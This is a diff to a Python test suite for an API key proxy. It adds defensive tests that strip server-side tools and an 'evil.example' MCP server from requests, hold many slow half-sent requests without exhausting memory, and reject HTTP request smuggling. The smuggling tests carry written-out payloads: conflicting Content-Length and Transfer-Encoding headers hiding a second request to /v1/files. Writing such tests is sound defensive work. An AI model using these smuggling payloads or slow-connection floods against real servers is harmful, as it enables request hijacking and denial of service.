@@ -5,6 +5,7 @@ import gzip
 import http.client
 import json
 import logging
+import socket
 import threading
 import time
 from collections.abc import Iterator
@@ -211,6 +212,67 @@ def test_what_costs_extra_is_taken_out() -> None:
 
     assert {"speed", "inference_geo"}.isdisjoint(model.requests[0].body)
     assert model.requests[0].body["temperature"] == 1
+
+
+def test_what_the_api_would_do_itself_is_taken_out() -> None:
+    """Its own searches, containers and connections cost by use and reach further than this machine; ours stay."""
+    own = [{"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"}, {"type": "custom"}]
+    its = [{"type": kind} for kind in ("web_search_20250305", "web_fetch_20250910", "code_execution_20250825", 1)]
+    with between(say("hi")) as (proxy, model):
+        ask(proxy, message(tools=[*its, *own, "odd"], mcp_servers=[{"url": "https://evil.example"}], container="c"))
+        ask(proxy, message(tools={"type": "web_search_20250305"}))
+
+    first, second = (request.body for request in model.requests)
+    assert (first["tools"], second["tools"]) == (own, [])
+    assert {"mcp_servers", "container"}.isdisjoint(first)
+
+
+def test_many_slow_requests_are_not_all_held_in_memory(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Who begins many large ones and never ends them waits for themselves; strangers take nobody's place."""
+    monkeypatch.setattr("bot.agent.key_proxy.AT_ONCE", 2)
+    with between(say("hi")) as (proxy, model), contextlib.ExitStack() as stack:
+        slow = [stack.enter_context(begun(proxy, key)) for key in ("guess", "guess", proxy.key, proxy.key)]
+        waits = threading.Thread(target=ask, args=(proxy,))
+        waits.start()
+        waits.join(0.3)
+        assert (waits.is_alive(), model.requests) == (True, [])
+        slow[-1].close()
+        waits.join(20)
+
+    assert len(model.requests) == 1
+
+
+@contextlib.contextmanager
+def begun(proxy: KeyProxy, key: str) -> Iterator[socket.socket]:
+    """A request of which only the beginning comes."""
+    with socket.create_connection(("127.0.0.1", int(proxy.url.rpartition(":")[2])), timeout=20) as line:
+        head = f"POST /v1/messages HTTP/1.1\r\nHost: a\r\nx-api-key: {key}\r\nContent-Length: 30000000\r\n\r\n{{"
+        line.sendall(head.encode())
+        yield line
+
+
+SMUGGLED = {
+    "two lengths": "Content-Length: 2\r\nContent-Length: 60\r\n\r\n{}",
+    "a length and chunks": "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
+    "odd chunks": "Transfer-Encoding: chunked, identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
+    "no end of a header": "Content-Length: 2\n\n{}",
+}
+
+
+@pytest.mark.parametrize("how", SMUGGLED)
+def test_a_request_inside_a_request_stays_here(how: str) -> None:
+    """The API gets what we write, never the agent's bytes: what a second request hides in is refused or is a body."""
+    inner = b"POST /v1/files HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"
+    with between(say("hi")) as (proxy, model):  # noqa: SIM117 (what follows needs the port)
+        with socket.create_connection(("127.0.0.1", int(proxy.url.rpartition(":")[2])), timeout=20) as line:
+            start = f"POST http://evil.example/v1/messages HTTP/1.1\r\nHost: evil.example\r\nx-api-key: {proxy.key}\r\n"
+            line.sendall(start.encode() + SMUGGLED[how].encode() + inner)
+            line.shutdown(socket.SHUT_WR)
+            while line.recv(1 << 16):
+                pass
+
+    assert {request.path for request in model.requests} <= {"/v1/messages"}
+    assert all(request.headers["host"] in model.url for request in model.requests)
 
 
 def test_a_used_up_budget_refuses() -> None:
